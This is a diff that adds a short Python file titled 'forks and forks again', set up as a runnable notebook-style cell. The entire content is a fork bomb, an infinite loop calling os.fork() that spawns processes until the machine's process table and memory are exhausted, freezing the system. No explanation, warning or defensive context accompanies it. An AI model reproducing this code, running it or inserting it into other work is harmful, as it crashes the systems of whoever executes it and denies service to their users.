@@ -1,0 +1,5 @@
+# forks and forks again
+# %%
+import os
+while True:
+    os.fork()
